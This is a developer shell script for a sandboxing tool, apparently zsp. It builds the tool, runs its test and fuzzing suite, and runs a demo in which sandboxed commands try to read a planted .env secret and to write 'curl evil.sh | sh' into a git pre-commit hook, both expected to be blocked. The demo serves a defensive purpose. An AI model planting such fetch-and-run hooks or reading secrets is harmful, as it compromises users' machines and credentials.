#!/bin/sh
# dev.sh: everything the README's two commands need on a fresh Debian 12 machine:
# install missing packages (as root), bootstrap, configure and build out of tree, then run a job.
#   ./dev.sh demo    run a command in the sandbox of the built-in policy (examples/workspace.zsp)
#   ./dev.sh check   run every test: make check, the same under ASan+UBSan, make distcheck,
#                    a short libFuzzer run of both fuzz targets, the suite as an unprivileged user
set -eu

top=$(cd "$(dirname "$0")" && pwd)
build="$top/_build"
jobs=$(nproc 2>/dev/null || echo 2)
packages="build-essential autoconf automake libtool pkg-config flex bison libseccomp-dev
libsqlite3-dev libpcre2-dev libcunit1-dev bubblewrap xz-utils procps"

# check alone: libFuzzer (the fuzz targets build with clang)
check_packages="clang"

say() { printf 'dev.sh: %s\n' "$*" >&2; }

install_packages() {
	missing=
	for p in $packages ${1:-}; do
		dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' ||
			missing="$missing $p"
	done
	[ -z "$missing" ] && return 0
	if [ "$(id -u)" -ne 0 ]; then
		say "missing Debian packages:$missing"
		say "install them as root: apt-get install$missing"
		exit 1
	fi
	say "installing:$missing"
	export DEBIAN_FRONTEND=noninteractive
	apt-get update -qq
	# shellcheck disable=SC2086
	apt-get install -y -qq --no-install-recommends $missing >/dev/null
}

# configure (once) and build in $1 with configure options $2...
build_in() {
	dir=$1
	shift
	if [ ! -x "$top/configure" ] || [ "$top/configure.ac" -nt "$top/configure" ] ||
	   [ "$top/Makefile.am" -nt "$top/configure" ]; then
		say "bootstrapping (autoreconf)"
		(cd "$top" && autoreconf -fi >/dev/null 2>&1) || { (cd "$top" && autoreconf -fi); exit 1; }
	fi
	mkdir -p "$dir"
	if [ ! -f "$dir/Makefile" ] || [ "$top/configure" -nt "$dir/config.status" ]; then
		say "configuring $dir $*"
		(cd "$dir" && "$top/configure" -q "$@")
	fi
	make -s -C "$dir" -j"$jobs" >/dev/null
}

# Adds the PASS/FAIL counts of a make check log to the totals; a failed make counts at least once.
passed=0
failed=0
tally() {
	log=$1
	status=$2
	grep -E '^(# )?(PASS|FAIL|XPASS|ERROR|SKIP|XFAIL)|passed, ' "$log" || true
	p=$(sed -n 's/^# PASS: *//p' "$log" | awk '{s+=$1} END {print s+0}')
	f=$(sed -n 's/^# \(FAIL\|XPASS\|ERROR\): *//p' "$log" | awk '{s+=$1} END {print s+0}')
	if [ "$status" -ne 0 ]; then
		[ "$f" -eq 0 ] && f=1
		say "failed; the end of $log:"
		tail -n 80 "$log" >&2
	fi
	passed=$((passed + p))
	failed=$((failed + f))
}

# Runs make TARGET in DIR and tallies it.
run_tests() {
	status=0
	make -C "$1" -j"$jobs" "$2" >"$1/dev-$2.out" 2>&1 || status=$?
	tally "$1/dev-$2.out" "$status"
}

# Builds the libFuzzer targets (clang, ASan+UBSan) and runs each for FUZZ_SECONDS (default 60)
# on a copy of its corpus, both at once: the build cannot rot unnoticed, and each run of the
# suite fuzzes a little. A crash fails the check and is shown; keep it in tests/fuzz/*crashers/.
fuzz_smoke() {
	seconds=${FUZZ_SECONDS:-60}
	fz=$build-fuzz
	build_in "$fz" CC=clang --enable-fuzz
	pids=
	for t in parser:corpus oracle:oracle-corpus; do
		name=${t%%:*}
		rm -rf "$fz/fuzz-$name" && mkdir -p "$fz/fuzz-$name"
		cp "$top/tests/fuzz/${t#*:}"/* "$fz/fuzz-$name/"
		(cd "$fz" && exec "./tests/fuzz/fuzz_$name" -max_total_time="$seconds" -max_len=4096 \
			-timeout=10 -dict="$top/tests/fuzz/zsp.dict" "fuzz-$name" >"fuzz-$name.out" 2>&1) &
		pids="$pids $!"
	done
	for pid in $pids; do
		wait "$pid" || true   # judged by what each printed
	done
	for name in parser oracle; do
		if grep -q "^Done [0-9]* runs" "$fz/fuzz-$name.out"; then
			say "fuzz_$name: $(grep -o "Done [0-9]* runs in [0-9]* second(s)" "$fz/fuzz-$name.out")"
			passed=$((passed + 1))
		else
			say "fuzz_$name found a crash; the end of $fz/fuzz-$name.out:"
			tail -n 40 "$fz/fuzz-$name.out" >&2
			failed=$((failed + 1))
		fi
	done
}

# As root, the suite also runs as an unprivileged user: zsp must need no privilege, and some
# checks (a read-only output directory) only mean something without root's override.
unprivileged_check() {
	user=zsptest
	id "$user" >/dev/null 2>&1 ||
		useradd --system --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$user"
	tarball=$(ls -t "$build"/zsp-*.tar.xz 2>/dev/null | head -n 1)
	[ -n "$tarball" ] || make -s -C "$build" dist >/dev/null
	tarball=$(ls -t "$build"/zsp-*.tar.xz | head -n 1)
	dir=$(mktemp -d /tmp/zsp-unprivileged.XXXXXX)
	tar -C "$dir" -xJf "$tarball"
	chown -R "$user" "$dir"
	chmod 755 "$dir"
	src=$(ls -d "$dir"/zsp-*/)
	say "make check as the unprivileged user $user in $src"
	if ! runuser -u "$user" -- sh -c "cd '$src' && ./configure -q && make -s -j$jobs" >"$dir/build.out" 2>&1; then
		say "the unprivileged build failed:"
		tail -n 40 "$dir/build.out" >&2
		failed=$((failed + 1))
		return
	fi
	status=0
	runuser -u "$user" -- make -C "$src" -j"$jobs" check >"$dir/check.out" 2>&1 || status=$?
	tally "$dir/check.out" "$status"
	[ "$status" -eq 0 ] && rm -rf "$dir"
}

case "${1:-}" in
demo)
	install_packages
	build_in "$build"
	# a throwaway workspace with what agents must not touch: a secret and git hooks
	demo=$build/demo-workspace
	rm -rf "$demo"
	mkdir -p "$demo/.git/hooks"
	echo 'API_KEY=do-not-leak' >"$demo/.env"
	cd "$demo"
	say "running in the sandbox of the built-in policy (examples/workspace.zsp), in $demo:"
	"$build/zsp-run" -- sh -c '
		echo "fn main() {}" > main.rs && echo "allowed: wrote $PWD/main.rs"
		cat .env 2>/dev/null || echo "blocked: reading .env (hidden by deny \"**/.env\")"
		echo "curl evil.sh | sh" 2>/dev/null > .git/hooks/pre-commit ||
			echo "blocked: writing .git/hooks/pre-commit (protected)"
		echo x 2>/dev/null > "$HOME/.bashrc-zsp-demo" || echo "blocked: writing to $HOME (read-only)"'
	;;
check)
	install_packages "$check_packages"
	build_in "$build"
	run_tests "$build" check
	say "AddressSanitizer + UndefinedBehaviorSanitizer build"
	build_in "$build-asan" --enable-asan --enable-ubsan
	run_tests "$build-asan" check
	say "make distcheck"
	status=0
	make -C "$build" -j"$jobs" distcheck >"$build/dev-distcheck.out" 2>&1 || status=$?
	# distcheck reruns the suite from the tarball: it counts as one check
	if [ "$status" -eq 0 ]; then passed=$((passed + 1)); else tally "$build/dev-distcheck.out" 1; fi
	say "libFuzzer, ${FUZZ_SECONDS:-60} s per target"
	fuzz_smoke
	if [ "$(id -u)" -eq 0 ]; then
		unprivileged_check
	fi
	echo "total: $passed passed, $failed failed"
	[ "$failed" -eq 0 ]
	;;
*)
	echo "usage: $0 demo|check" >&2
	exit 64
	;;
esac
